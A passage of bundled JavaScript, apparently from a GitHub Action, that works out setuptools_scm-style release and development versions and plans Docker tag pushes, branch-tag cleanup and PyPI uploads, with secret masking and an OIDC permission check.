            return { type: 'skip', reason: `Tag "${tag}" is not a version${regex}, so it releases nothing.` };
        }
        if (!(0,tag_rules/* describeAdmits */.Ei)(rules.describe, tag)) {
            return {
                type: 'skip',
                reason: `Tag "${tag}" is left out by the git_describe_command's --match/--exclude patterns, so setuptools_scm never counts it as a version; it releases nothing.`
            };
        }
        return { type: 'release', tag, version };
    }
    if (event.ref.startsWith('refs/heads/')) {
        const branch = event.ref.slice('refs/heads/'.length);
        const rule = skipBranches.find(pattern => matchesBranch(pattern, branch));
        if (rule !== undefined) {
            return {
                type: 'skip',
                reason: `Branch "${branch}" is in skip-branches: its commits were already released from the branch they came from, and its tags release themselves.`
            };
        }
        return { type: 'dev', branch };
    }
    return { type: 'skip', reason: `Ref "${event.ref}" is neither a branch nor a tag.` };
}
/** skip-branches entries are names, where `*` stands for any run of characters. */
function matchesBranch(pattern, branch) {
    const regex = new RegExp(`^${pattern.split('*').map(escapeRegex).join('.*')}$`);
    return regex.test(branch);
}
function escapeRegex(text) {
    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
/** Turn the trigger and what git says into the plan. */

// EXTERNAL MODULE: ./src/plan/docker-tags.ts
var docker_tags = __webpack_require__(41133);
// EXTERNAL MODULE: ./src/plan/tag-templates.ts
var tag_templates = __webpack_require__(21689);
// EXTERNAL MODULE: ./src/versions/pep440.ts
var pep440 = __webpack_require__(42422);
// EXTERNAL MODULE: ./src/plan/latest.ts
var latest = __webpack_require__(10320);
// EXTERNAL MODULE: ./src/plan/dist-attestations.ts
var dist_attestations = __webpack_require__(12491);
// EXTERNAL MODULE: ./src/versions/words.ts
var words = __webpack_require__(13880);
// EXTERNAL MODULE: ./src/versions/version-schemes.ts
var version_schemes = __webpack_require__(30416);
;// CONCATENATED MODULE: ./src/plan/plan-version.ts




/** The tool and the settings that differ from its defaults, as the summary names them. */
function describeConfig(v) {
    const scm = `setuptools_scm${v.config.major ? ` ${v.config.major}` : ''}`;
    const tool = v.config.tool === 'hatch-vcs'
        ? `hatch-vcs (${scm})`
        : v.config.tool === 'vcs-versioning'
            ? 'setuptools-scm 10 ([tool.vcs-versioning])'
            : scm;
    const parts = [tool, `version_scheme ${v.config.scheme}`];
    if (!v.config.normalize)
        parts.push('normalize false');
    if (v.rules.tagRegex.source !== tag_regex/* DEFAULT_TAG_REGEX */.$F)
        parts.push(`tag_regex ${v.rules.tagRegex.source}`);
    if (v.rules.prefix)
        parts.push(`tag prefix ${v.rules.prefix}`);
    return parts;
}
function releaseVersion(trigger, facts, v) {
    const out = { version: '', reason: '', versionSource: '', errors: [], warnings: [], notices: [] };
    // normalize = false: the version as the tag writes it, which is what setuptools_scm gives.
    const tagged = v.config.normalize ? (0,pep440/* normalizeVersion */.Qj)(trigger.version) : trigger.version;
    const scm = runScheme(v, { tag: trigger.version, distance: 0, branch: 'HEAD', facts }, out);
    out.version = scm ?? tagged;
    out.baseTag = trigger.tag;
    out.versionSource = [...describeConfig(v), `tag ${trigger.tag}`].join(', ');
    const picked = facts.describedHere;
    if (picked) {
        // Two version tags on one commit: the pushed one is released, and the build is pinned to it.
        out.versionSource = `the pushed tag ${trigger.tag}; setuptools_scm would pick tag ${picked} at this commit, which carries both`;
        out.notices.push(`This commit also carries tag "${picked}", which setuptools_scm picks here: the release is the pushed tag's ${out.version}, and its files are built at that version; a build of this commit outside the action gets ${picked}'s version.`);
    }
    out.reason = `Tag "${trigger.tag}" is version ${out.version}: a release.`;
    if (out.version !== tagged) {
        out.warnings.push(`version_scheme ${v.config.scheme} turns tag "${trigger.tag}" (${tagged}) into ${out.version}, and this release publishes what the project computes.`);
    }
    const pretend = v.config.pretend;
    if (pretend && (0,pep440/* normalizeVersion */.Qj)(pretend.version) !== (0,pep440/* normalizeVersion */.Qj)(out.version)) {
        out.errors.push(`${pretend.variable} is ${pretend.version}, but tag "${trigger.tag}" is version ${out.version}: a tag build releases the tag. Unset ${pretend.variable} for tag builds.`);
    }
    return out;
}
/** The commit's UTC time as a number: YYYYMMDDHHMMSS, later commits higher (dev-number: commit-time). */
function commitTimeNumber(epoch) {
    return Number(new Date(epoch * 1000).toISOString().replace(/\D/g, '').slice(0, 14));
}
function devVersion(trigger, facts, v, devNumber = 'distance') {
    const out = { version: '', reason: '', versionSource: '', errors: [], warnings: [], notices: [] };
    const nearest = facts.nearest;
    if (facts.passedOver.length) {
        const names = facts.passedOver.map(t => `"${t}"`).join(', ');
        const many = facts.passedOver.length > 1;
        out.warnings.push(`Tag${many ? 's' : ''} ${names} ${many ? 'are' : 'is'} nearer than any version tag of this package but no version of it; setuptools_scm would fail here, so the version counts from ${nearest ? `tag "${nearest.tag}"` : 'no tag'} instead.`);
    }
    if (facts.ownNearest && nearest && v.rules.prefix) {
        out.warnings.push(`The tag prefix "${v.rules.prefix}" makes this version count from "${nearest.tag}", but the project's own setuptools_scm settings find "${facts.ownNearest}" first, another package's tag. ` +
            `Add git_describe_command = "git describe --dirty --tags --long --match '${v.rules.prefix}*[0-9]*'" and a tag_regex for the prefix to the project's settings, so that builds outside this action agree.`);
    }
    const distance = nearest ? nearest.distance : facts.commitCount;
    // commit-time: the scheme counts the commit's time instead of the distance, so that no two commits share a
    // version; a commit at its tag keeps the tag's version.
    const byTime = devNumber === 'commit-time' && distance > 0 && facts.commitEpoch !== undefined;
    const counted = byTime ? commitTimeNumber(facts.commitEpoch) : distance;
    out.baseTag = nearest?.tag;
    const since = nearest
        ? nearest.distance === 0
            ? `at tag "${nearest.tag}"`
            : `${(0,words/* plural */.LS)(nearest.distance, 'commit')} after tag "${nearest.tag}"`
        : `no version tag yet, ${(0,words/* plural */.LS)(facts.commitCount, 'commit')} in all`;
    const pretend = v.config.pretend;
    if (pretend) {
        out.version = v.config.normalize ? (0,pep440/* normalizeVersion */.Qj)(pretend.version) : pretend.version;
        out.versionSource = `${pretend.variable}=${pretend.version}`;
        out.notices.push(`The version comes from ${pretend.variable} (${pretend.version}), not from git.`);
    }
    else {
        // setuptools_scm counts from 0.0 where no tag is found.
        out.version =
            runScheme(v, { tag: nearest?.version ?? '0.0', distance: counted, branch: trigger.branch, facts }, out) ?? '';
        out.versionSource = [
            ...describeConfig(v),
            nearest ? `tag ${nearest.tag}` : 'no tag',
            (0,words/* plural */.LS)(distance, 'commit'),
            ...(byTime ? [`dev-number commit-time: ${counted} (the commit's UTC time)`] : [])
        ].join(', ');
    }
    out.since = since;
    out.reason = `Push to branch "${trigger.branch}": a development release, ${since}.`;
    return out;
}
/** The scheme's version without its local part, or undefined with an error where setuptools_scm would fail. */
function runScheme(v, at, out) {
    let raw;
    try {
        const result = (0,version_schemes/* computeVersion */.E2)(v.config.scheme, {
            tag: at.tag,
            distance: at.distance,
            branch: at.branch,
            nodeDate: at.facts.commitDate ?? at.facts.today,
            today: at.facts.today,
            tagRegex: v.rules.tagRegex,
            normalize: v.config.normalize
        });
        out.warnings.push(...result.warnings);
        raw = result.version;
    }
    catch (error) {
        if (!(error instanceof version_schemes/* SchemeError */.At))
            throw error;
        out.errors.push(`setuptools_scm's version_scheme ${v.config.scheme} fails here: ${error.message}. Tag a version it can continue from, or choose another version_scheme.`);
        return undefined;
    }
    // normalize = false: as written, less a local part; the built files carry the normalized form (the plan says so).
    const version = v.config.normalize ? (0,pep440/* publicVersion */.Yd)(raw) : (0,pep440/* publicVersion */.Yd)(raw) && raw.split('+')[0];
    if (!version) {
        out.errors.push(`version_scheme ${v.config.scheme} gives "${raw}" here, which is not a PEP 440 version; no build backend accepts it. Tag a version it can continue from, or choose another version_scheme.`);
        return undefined;
    }
    if ((0,pep440/* publicVersion */.Yd)(raw) !== (0,pep440/* normalizeVersion */.Qj)(raw))
        out.notices.push(`The local part of ${raw} is dropped: a package index refuses local versions.`);
    return version;
}

;// CONCATENATED MODULE: ./src/plan/planner.ts
// The planner: a pure function from the event, the inputs and facts read from
// git to one plan. It runs nothing; the executor (or the dry run) takes it from here.
// The trigger comes first (trigger.ts), the version from plan-version.ts, latest from latest.ts.








function makePlan(event, inputs, trigger, facts, given, live) {
    const base = {
        ref: event.ref,
        sha: event.sha,
        image: inputs.image,
        mirrors: inputs.mirrors.map(m => m.name),
        moreImages: inputs.moreImages.map(i => ({ image: i.image, mirrors: i.mirrors.map(m => m.name) })),
        platforms: inputs.platforms,
        dockerfile: `${inputs.dockerfile} (context ${inputs.context}${inputs.dockerfileFrom ? `; ${inputs.dockerfileFrom}` : ''})`,
        errors: [],
        warnings: [],
        notices: [...inputs.notices]
    };
    if (trigger.type === 'cleanup')
        return cleanupPlan(base, trigger, inputs, live);
    if (trigger.type === 'skip' || !facts) {
        const reason = trigger.type === 'skip' ? trigger.reason : 'Nothing to release.';
        return { ...base, type: 'skip', reason, version: '', imageRefs: [], owners: [], steps: [] };
    }
    const versioning = given ?? (0,plan_plan/* defaultVersioning */.Q)();
    const computed = trigger.type === 'release'
        ? releaseVersion(trigger, facts, versioning)
        : devVersion(trigger, facts, versioning, inputs.devNumber);
    if (trigger.type === 'verify') {
        computed.reason = `Pull request from "${trigger.branch}": built and checked at its would-be version, ${computed.since}, and published nowhere.`;
    }
    const { version, reason, versionSource, baseTag } = computed;
    const normalized = version ? (0,pep440/* normalizeVersion */.Qj)(version) : undefined;
    const distVersion = normalized !== version ? normalized : undefined;
    base.errors.push(...computed.errors);
    base.warnings.push(...computed.warnings);
    base.notices.push(...computed.notices);
    let owned;
    let latestReason;
    let taggedRelease;
    if (trigger.type === 'release') {
        const moveLatest = (0,latest/* latestDecision */.sR)(version, facts.tagVersions, inputs.latest);
        latestReason = moveLatest.why;
        owned = [{ tag: version, owner: 'release', what: `release ${version}` }];
        if (moveLatest.latest)
            owned.push({
                tag: 'latest',
                owner: 'latest',
                what: inputs.latest === 'true' ? 'every final release (latest: true)' : 'the highest final release'
            });
    }
    else if (trigger.type === 'verify') {
        owned = []; // built, never pushed
    }
    else {
        const own = (0,docker_tags/* branchTag */.TY)(trigger.branch, (0,tag_templates/* reservedBy */.a2)(inputs.tagTemplates));
        owned = [{ tag: own, owner: 'branch', what: `branch ${trigger.branch}` }];
        if (facts.nearest?.distance === 0 && !versioning.config.pretend)
            taggedRelease = facts.nearest.tag;
        if (inputs.publishDocker && inputs.mode !== 'build') {
            const shared = sharedBranchTags(trigger.branch, inputs.tagTemplates, live);
            if (shared)
                (shared.error ? base.errors : base.notices).push(shared.text);
        }
    }
    if (trigger.type !== 'verify' && inputs.tagTemplates.length) {
        const extra = (0,tag_templates/* renderTags */.Ep)(inputs.tagTemplates, {
            type: trigger.type,
            version,
            branch: trigger.type === 'dev' ? trigger.branch : undefined,
            branchTag: trigger.type === 'dev' ? owned[0].tag : undefined,
            sha: event.sha,
            releasedVersions: facts.tagVersions
        });
        owned.push(...extra.tags.filter(t => !owned.some(o => o.tag === t.tag)));
        base.notices.push(...extra.notes);
    }
    // A build job (mode build) pushes no image: the publishing job owns the tags.
    const owners = inputs.publishDocker && inputs.mode !== 'build' ? owned : [];
    const imageRefs = (0,docker_tags/* imageRefsOf */.LT)(inputs.image, owners.map(o => o.tag));
    const steps = trigger.type === 'verify'
        ? verifySteps(inputs, facts, version)
        : planSteps(trigger.type, inputs, facts, version, imageRefs, taggedRelease);
    if (!facts.hasPythonProject && inputs.publishDocker) {
        base.notices.push(`No pyproject.toml or setup.py in "${inputs.pythonProject}": the image alone is released, with no Python package.`);
    }
    // A version the files fix is what the build writes, whatever git says: say so before anything is built.
    const fixed = versioning.fixed;
    const builds = steps.some(s => s.id === 'python-build' && !s.skippedBecause);
    if (fixed && builds && version && (0,pep440/* normalizeVersion */.Qj)(fixed.version) !== normalized) {
        base.errors.push(`${fixed.where} fixes the version at ${fixed.version}, so the build would carry ${fixed.version}, not ${version}. ${fixed.advice}`);
    }
    const uploads = steps.some(s => s.id === 'index-upload' && !s.skippedBecause);
    if (trigger.type === 'dev' && uploads && version && !(0,pep440/* isPreRelease */.Ty)(version)) {
        const problem = `A branch push publishes a development release, which pip installs only with --pre, but ${versionSource} gives ${version}, ` +
            `which every pip install would pick${(0,pep440/* isFinal */.dR)(version) ? ' (a final release)' : ''}. Use a version_scheme that gives .devN versions ` +
            '(guess-next-dev, no-guess-dev, release-branch-semver), set publish-pypi: false for branches, or set version-checks: warn if this is meant.';
        if (inputs.versionChecks === 'strict')
            base.errors.push(problem);
        else
            base.warnings.push(problem);
    }
    return {
        ...base,
        type: trigger.type,
        reason,
        version,
        distVersion,
        imageRefs,
        owners,
        latestReason,
        ...(inputs.latest === 'true' && trigger.type === 'release' ? { latestAlways: true } : {}),
        versionSource,
        baseTag,
        commitEpoch: facts.commitEpoch,
        steps
    };
}
/**
 * Two live branches that map to one tag (`feature/x` and `feature-x`, `1.0` and `branch-1.0`) would overwrite each
 * other's image, and a cleanup of one would leave the other's: such a dev release is refused, naming both branches.
 * Where the remote's branches cannot be read, a notice says the check was not made.
 */
function sharedBranchTags(branch, templates, live) {
    if (!live)
        return undefined;
    if ('error' in live)
        return {
            error: false,
            text: `Not checked whether another branch maps to the image tags of "${branch}" (${live.error}).`
        };
    const others = otherBranchesTags(branch, templates, live.names);
    const shared = new Map();
    for (const { tag } of branchOwnTags(branch, templates))
        for (const name of others.get(tag) ?? [])
            shared.set(name, [...(shared.get(name) ?? []), tag]);
    const clashes = [...shared].map(([name, tags]) => `"${name}" (${tags.join(', ')})`);
    if (!clashes.length)
        return undefined;
    return {
        error: true,
        text: `Branch "${branch}" shares image tags with the live branch ${clashes.join(', ')}: each would overwrite the other's image, so nothing is published. Rename one of the branches, or delete the one no longer used.`
    };
}
/** Each tag the other live branches own, and which of them own it (in the remote's order). */
function otherBranchesTags(branch, templates, live) {
    const others = new Map();
    for (const name of live.filter(b => b !== branch))
        for (const { tag } of branchOwnTags(name, templates))
            others.set(tag, [...(others.get(tag) ?? []), name]);
    return others;
}
/** The tags a branch owns: its own, and those of the templates that render from the branch alone. */
function branchOwnTags(branch, templates) {
    const own = (0,docker_tags/* branchTag */.TY)(branch, (0,tag_templates/* reservedBy */.a2)(templates));
    const perBranch = templates.filter(t => (0,tag_templates/* templateOwner */.m1)(t) === 'branch');
    const rendered = (0,tag_templates/* renderTags */.Ep)(perBranch, {
        type: 'dev',
        version: '',
        branch,
        branchTag: own,
        sha: '',
        releasedVersions: []
    });
    return [{ tag: own, owner: 'branch', what: `branch ${branch}` }, ...rendered.tags.filter(t => t.tag !== own)];
}
/**
 * A deleted branch (or a closed pull request's): the tags it alone owns, under every image name (the same
 * sanitizer, so the names match). Never a release's, `latest`, an alias, a channel or a commit's (those have
 * other owners), and never one that a live branch maps to as well; where the live branches cannot be read,
 * nothing at all.
 */
function cleanupPlan(base, trigger, inputs, live) {
    const { branch } = trigger;
    const theirs = branchOwnTags(branch, inputs.tagTemplates);
    const owners = [];
    let skippedBecause;
    if (!live || 'error' in live) {
        skippedBecause = `the remote's branches cannot be read (${live ? live.error : 'not asked'}), and a tag may also be a live branch's: nothing is removed`;
        base.warnings.push(`Cleanup of "${branch}": ${skippedBecause}. ${inputs.githubToken
            ? "Give the job contents: read (github-token reads the branches through GitHub's API), and run it again."
            : "Give github-token (the branches are read through GitHub's API), or check out the repository first so that git ls-remote origin can answer, and run it again."}`);
    }
    else if (trigger.via === 'delete' && live.names.includes(branch)) {
        skippedBecause = `branch "${branch}" exists on the remote again, and its tags are its own`;
        base.notices.push(`Cleanup of "${branch}": ${skippedBecause}; nothing is removed.`);
    }
    else {
        const others = otherBranchesTags(branch, inputs.tagTemplates, live.names);
        for (const t of theirs) {
            const other = others.get(t.tag)?.at(-1);
            if (other === undefined)
                owners.push({ ...t, what: `${t.what} (deleted)` });
            else
                base.notices.push(`${t.tag} stays: the live branch "${other}" has that tag too.`);
        }
    }
    const imageRefs = (0,docker_tags/* imageRefsOf */.LT)(inputs.image, owners.map(o => o.tag));
    const via = trigger.via === 'close' ? 'The pull request from' : 'Branch';
    return {
        ...base,
        type: 'cleanup',
        reason: `${via} "${branch}" was ${trigger.via === 'close' ? 'closed' : 'deleted'}: the image tags it alone owns go; its Python packages stay (an index is permanent by design).`,
        version: '',
        imageRefs,
        owners,
        steps: [
            {
                id: 'cleanup',
                title: imageRefs.length
                    ? `Remove ${(0,plan_plan/* allRefs */.w)({ ...base, imageRefs }).join(', ')} where no other tag points at the same image`
                    : `Remove the tags "${branch}" alone owns: none`,
                skippedBecause
            },
            {
                id: 'index-upload',
                title: 'Remove Python packages',
                skippedBecause: 'an index keeps every file by design: the dev releases stay'
            }
        ]
    };
}
/** A pull request: the package and every image are built, and nothing leaves the runner. */
function verifySteps(inputs, facts, version) {
    const noPython = facts.hasPythonProject ? undefined : `no pyproject.toml or setup.py in "${inputs.pythonProject}"`;
    const nothing = 'a pull request publishes nothing';
    const buildJob = inputs.mode === 'build' ? BUILD_JOB : undefined;
    return [
        { id: 'python-build', title: pythonBuildTitle(inputs, version), skippedBecause: noPython },
        {
            id: 'stage',
            title: `Stage them into ${inputs.pkgDirs.join(', ')}`,
            skippedBecause: noPython ?? buildJob ?? (inputs.publishDocker ? undefined : 'publish-docker is false')
        },
        {
            id: 'docker',
            title: `Build ${inputs.platforms.join(', ')} (no login, nothing pushed: the result stays in the build cache)`,
            skippedBecause: buildJob ?? (inputs.publishDocker ? undefined : 'publish-docker is false')
        },
        { id: 'index-upload', title: `Upload to ${inputs.pypiUrl}`, skippedBecause: nothing }
    ];
}
/** Why a build job (mode build) stages, builds and uploads nothing. */
const BUILD_JOB = 'mode build: the publishing job does it, with the files this job leaves in dists-dir';
/** What the Python build step does: build here (and, in mode build, leave the files for the publishing job), or take the build job's. */
function pythonBuildTitle(inputs, version) {
    const dir = inputs.distsDir || '<RUNNER_TEMP>/dev-release-dists';
    if (inputs.mode === 'build')
        return `Build sdist and wheel of "${inputs.pythonProject}" at ${version}, into ${dir} for the publishing job`;
    if (inputs.distsDir)
        return `Take the sdist and wheel the build job made at ${version} from ${inputs.distsDir}, checked against this commit and version (no Python build runs here)`;
    return `Build sdist and wheel of "${inputs.pythonProject}" at ${version}`;
}
function planSteps(type, inputs, facts, version, imageRefs, taggedRelease) {
    const noPython = facts.hasPythonProject ? undefined : `no pyproject.toml or setup.py in "${inputs.pythonProject}"`;
    const buildJob = inputs.mode === 'build' ? BUILD_JOB : undefined;
    const build = {
        id: 'python-build',
        title: pythonBuildTitle(inputs, version),
        skippedBecause: noPython ??
            (!inputs.publishPypi && !inputs.publishDocker ? 'publish-pypi and publish-docker are false' : undefined)
    };
    const stage = {
        id: 'stage',
        title: `Stage them into ${inputs.pkgDirs.join(', ')}`,
        skippedBecause: build.skippedBecause ?? buildJob ?? (inputs.publishDocker ? undefined : 'publish-docker is false')
    };
    const dockerSkip = buildJob ?? (inputs.publishDocker ? undefined : 'publish-docker is false');
    const docker = {
        id: 'docker',
        title: inputs.mode === 'platform'
            ? `Build ${inputs.platforms[0]} and push it by digest, for the merge job`
            : inputs.mode === 'merge'
                ? `Merge the platform images (${inputs.platforms.join(', ')}) into ${imageRefs.join(', ')}`
                : `Build ${inputs.platforms.join(', ')} and push ${imageRefs.join(', ')}`,
        skippedBecause: dockerSkip
    };
    // The provenance goes with the manifest list: never a platform job's single image.
    if (inputs.attestImage !== 'false' && inputs.mode !== 'platform')
        docker.title += `, with a signed SLSA provenance${inputs.attestImage === 'registry' ? ' (in the registry too)' : ''}`;
    if (inputs.mode === 'merge' && !stage.skippedBecause)
        stage.skippedBecause = 'mode merge builds no image';
    const index = (0,plan_inputs/* indexFor */.C9)(type, inputs);
    const attest = (0,dist_attestations/* attestDecision */.a5)({ mode: inputs.attestDists, type, uploadUrl: index.url, token: !!index.token });
    const pypi = {
        id: 'index-upload',
        title: `Upload to ${index.url}${attest.sign ? ', each file with a PEP 740 attestation' : ''}`,
        skippedBecause: buildJob ??
            (!inputs.publishPypi
                ? 'publish-pypi is false'
                : inputs.mode === 'platform'
                    ? 'mode platform: the merge job uploads'
                    : (noPython ??
                        (taggedRelease !== undefined
                            ? `this commit is tag "${taggedRelease}", whose own release publishes ${version}`
                            : undefined)))
    };
    return [build, stage, docker, pypi];
}

// EXTERNAL MODULE: ./src/plan/summary.ts
var plan_summary = __webpack_require__(40967);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
;// CONCATENATED MODULE: ./src/shell/main.ts
// The action: read the event and inputs, plan, then report (dry run) or publish.


















const SECRET_INPUTS = ['registry-password', 'pypi-token', 'dev-pypi-token', 'github-token'];
/**
 * Why an upload by trusted publishing (no token given) cannot happen here, if it cannot: it needs the job's OIDC
 * token, which a runner hands out only with permissions: id-token: write, and a terminal never has.
 */
function trustedPublishingGap(token, commandLine) {
    if (token || runner/* canRequestIdToken */.yE())
        return undefined;
    return commandLine
        ? 'The upload would use trusted publishing (no token is given), which needs the OIDC token of a GitHub Actions job; a terminal has none. To upload from here, set DEV_RELEASE_PYPI_TOKEN (DEV_RELEASE_DEV_PYPI_TOKEN for dev-pypi-url) to an API token of the index, or give --publish-pypi false.'
        : 'The upload would use trusted publishing (no pypi-token is given), but this job cannot request an OIDC token: add permissions: id-token: write to the job (and a trusted publisher on the index), or pass pypi-token.';
}
/** The context the runner gives an action: GITHUB_* and INPUT_* variables, and the event payload file. */
function runnerContext() {
    return {
        event: eventFromEnvironment(process.env),
        input: runner/* getInput */.V4,
        workspace: process.env.GITHUB_WORKSPACE || process.cwd(),
        temp: process.env.RUNNER_TEMP || (0,external_node_os_.tmpdir)()
    };
}
/** One run: plan, then report (dry run) or publish. Resolves to how it ended (a failure is also reported). */
async function mainStep(makeContext = runnerContext) {
    // The job summary, written once at the end, so that a failure's reason stands at its top.
    const summary = [];
    let failureShown = false;
    let planned;
    try {
        const { event, input, workspace, temp, verify, rebuild, commandLine } = makeContext();
        // Mask secrets before anything can print them.
        for (const name of SECRET_INPUTS) {
            const value = input(name);
            if (value)
                runner/* setSecret */.Pq(value);
        }
        for (const line of input('registry-logins').split('\n')) {
            const password = line.trim().split(/\s+/)[2];
            if (password)
                runner/* setSecret */.Pq(password);
        }
        // Under debug logging (ACTIONS_STEP_DEBUG): the event as the action read it, and below, the plan.
        runner/* debug */.Yz(`Event: ${JSON.stringify(event)}`);
        const parsed = (0,plan_inputs/* parseInputs */.TL)(input, event.repository, event.actor);
        const { problems } = parsed;
        const located = locateDockerfile(parsed.inputs, workspace);
        const { inputs } = located;
        if (located.notice)
            inputs.notices.push(located.notice);
        // The project's version settings are read only where the event can release (a pull request never reads them).
        let project;
        const versioning = () => (project ??= (0,project_files/* readVersioning */.Bm)((0,external_node_path_.join)(workspace, inputs.pythonProject), inputs.tagPrefix, process.env));
        const trigger = classify(event, inputs.skipBranches, () => versioning().versioning.rules, inputs.pullRequests, inputs.cleanup, inputs.cleanupOnClose);
        const builds = trigger.type !== 'skip' && trigger.type !== 'cleanup';
        // Everything wrong with the inputs in one error, before anything is published.
        if (builds || event.ref.startsWith('refs/tags/'))
            problems.push(...versioning().problems);
        if (builds)
            problems.push(...(located.problem ? [located.problem] : []), ...(await preflight(inputs, workspace)));
        // A build job's code could ask the runner for the job's OIDC token, and trade it for a PyPI upload token.
        if (builds && inputs.mode === 'build' && runner/* canRequestIdToken */.yE())
            problems.push('This job of mode build can request an OIDC token (permissions: id-token: write), and its build code could trade it for an upload token: give id-token: write to the publishing job only (permissions at the job level).');
        if (problems.length)
            throw new plan_inputs/* InputError */.dz(problems);
        let facts;
        if (builds) {
            const git = new outside_git/* Git */.T(workspace, inputs.timeouts.request);
            await ensureFullHistory(git, runner/* info */.pq);
            const { config, rules } = versioning().versioning;
            facts = await readFacts(git, trigger, event.sha, {
                pythonProject: inputs.pythonProject,
                rules,
                ownDescribe: rules.describe !== config.describe ? config.describe : undefined,
                needsCommitTime: config.scheme === 'calver-by-date' || inputs.devNumber === 'commit-time'
            });
        }
        // A cleanup removes nothing another live branch maps to, and a branch's image tag is no other live branch's:
        // the remote says which branches live.
        let live;
        const tagsBranch = trigger.type === 'dev' && inputs.publishDocker && inputs.mode !== 'build';
        if (trigger.type === 'cleanup' || tagsBranch) {
            const git = new outside_git/* Git */.T(workspace, inputs.timeouts.request);
            const read = (token) => liveBranches(event.repository, token, git, inputs.timeouts.request);
            // A release asks git first (one request, no API quota spent on every push), GitHub's API where git cannot.
            live = trigger.type === 'cleanup' ? await read(inputs.githubToken) : await read('');
            if (tagsBranch && 'error' in live && inputs.githubToken)
                live = await read(inputs.githubToken);
        }
        const plan = makePlan(event, inputs, trigger, facts, project?.versioning, live);
        planned = plan;
        plan.notices.push(...(project?.notices ?? []));
        plan.warnings.push(...(project?.warnings ?? []));
        const settings = (0,step_settings/* stepSettings */.Gr)(inputs, plan.type);
        if (inputs.dryRun && plan.steps.some(step => step.id === 'docker' && !step.skippedBecause)) {
            // The engine is asked, read only, so that the dry run shows how the image would be pushed.
            const { previewPush } = await Promise.all(/* import() */[__webpack_require__.e(805), __webpack_require__.e(534), __webpack_require__.e(432), __webpack_require__.e(87)]).then(__webpack_require__.bind(__webpack_require__, 8087));
            plan.imagePush = await previewPush(plan, settings.image, temp).catch((error) => `decided where it runs (the engine here did not answer: ${error.message.split('\n')[0]})`);
        }
        const upload = plan.steps.find(step => step.id === 'index-upload' && !step.skippedBecause);
        if (upload) {
            // Trusted publishing needs the job's OIDC token: without one, say so before anything is built or pushed.
            const gap = trustedPublishingGap(settings.index.token, !!commandLine);
            if (gap && inputs.dryRun)
                plan.warnings.push(gap);
            else if (gap)
                plan.errors.push(gap);
        }
        if (inputs.dryRun && upload) {
            // The index's page is read (a read: nothing is published), so that the plan says what the upload would do.
            const { previewUpload } = await Promise.all(/* import() */[__webpack_require__.e(534), __webpack_require__.e(836)]).then(__webpack_require__.bind(__webpack_require__, 2836));
            const { existingFiles, indexUrls } = await __webpack_require__.e(/* import() */ 534).then(__webpack_require__.bind(__webpack_require__, 16534));
            const urls = indexUrls(settings.index.url);
            const name = project?.info?.name;
            const preview = await previewUpload(plan, urls, name, () => existingFiles(urls, name, settings.index.timeouts.request));
            plan.indexPreview = preview.line;
            if (preview.skip)
                upload.skippedBecause = preview.skip;
        }
        runner/* debug */.Yz(`Plan: ${JSON.stringify(plan)}`);
        // Where the steps work: the checkout, the run's temp, what the project says.
        const site = () => ({
            workspace,
            temp,
            repositoryUrl: event.repositoryUrl,
            repository: event.repository,
            project: project?.info,
            tagVersions: () => tagVersions(new outside_git/* Git */.T(workspace, inputs.timeouts.request), versioning().versioning.rules)
        });
        if (verify) {
            // The index's page of the project, read once for the read-back and the rebuild's comparison.
            const name = project?.info?.name;
            const { indexUrls, projectFilesOnce } = await __webpack_require__.e(/* import() */ 534).then(__webpack_require__.bind(__webpack_require__, 16534));
            const held = name
                ? projectFilesOnce(indexUrls(settings.index.url), name, settings.index.timeouts.request)
                : undefined;
            const failed = await verifyPublished(plan, settings, name, event, 'planned', workspace, held);
            if (rebuild && (plan.type === 'release' || plan.type === 'dev'))
                failed.push(...(await rebuildPublished(plan, settings, site(), held)));
            if (failed.length)
                throw new Error(`${failed.length} checks failed: ${failed.join('; ')}`);
            return { ok: true, plan: planned };
        }
        summary.push(...report(plan, inputs.dryRun));
        if (plan.errors.length)
            throw new plan_inputs/* InputError */.dz(plan.errors);
        if (plan.type === 'skip' || inputs.dryRun)
            return { ok: true, plan: planned };
        // Publishing code (Docker, the index, the tool cache) loads only when there is something to publish.
        const { emptyOutcome, execute } = await Promise.all(/* import() */[__webpack_require__.e(805), __webpack_require__.e(534), __webpack_require__.e(432), __webpack_require__.e(87)]).then(__webpack_require__.bind(__webpack_require__, 8087));
        const { failureMarkdown, outcomeMarkdown } = await __webpack_require__.e(/* import() */ 446).then(__webpack_require__.bind(__webpack_require__, 79446));
        const outcome = emptyOutcome();
        let done;
        // A cancelled job: stop every program the action started, so that nothing more is pushed or uploaded.
        let cancelled;
        const cancel = (signal) => {
            cancelled = signal;
            runner/* info */.pq(`${signal}: the job is being cancelled; stopping the release.`);
            void (0,exec/* stopAll */.um)();
        };
        process.on('SIGTERM', cancel).on('SIGINT', cancel);
        try {
            done = await execute(plan, settings, site(), outcome);
        }
        catch (error) {
            // Whatever was published before the failure is in the outputs: a workflow can tell what is out there.
            setPublishedOutputs(outcome);
            const message = error instanceof Error ? error.message : String(error);
            const why = cancelled ? `The job was cancelled (${cancelled}) and the release stopped. ${message}` : message;
            // What was done and what was not, for the person who reads the failed job.
            summary.push(failureMarkdown(plan, outcome, why));
            failureShown = true;
            throw new Error(why, { cause: error });
        }
        finally {
            process.off('SIGTERM', cancel).off('SIGINT', cancel);
            // The work tree as the run found it: the staged files go, and the pkg directories staging made (a killed run
            // leaves them to the post step).
            (0,stage/* unstage */.ac)(outcome.staged, outcome.stagedDirs ?? []);
            for (const file of outcome.staged)
                (0,leftovers/* forget */.y6)('staged', file);
            for (const dir of outcome.stagedDirs ?? [])
                (0,leftovers/* forget */.y6)('staged-dir', dir);
        }
        const pushed = pushedTags(outcome);
        // A cleanup's are the tags it removed: one kept (another tag holds its image) is not in the output.
        const removed = (outcome.removed ?? []).filter(r => r.result === 'removed').map(r => r.ref);
        runner/* setOutput */.uH('docker-tags', (done.type === 'cleanup' ? removed : pushed.length ? pushed : done.imageRefs).join('\n'));
        runner/* setOutput */.uH('digest', outcome.digest);
        runner/* setOutput */.uH('dists', outcome.dists.join('\n'));
        if (inputs.mode === 'platform')
            runner/* setOutput */.uH('platform', inputs.platforms[0]);
        if (outcome.distsDir)
            runner/* setOutput */.uH('dists-dir', outcome.distsDir);
        summary.push(outcomeMarkdown(done, outcome, settings.index.url));
        if (inputs.verify &&
            (done.type === 'release' || done.type === 'dev') &&
            inputs.mode !== 'platform' &&
            inputs.mode !== 'build' &&
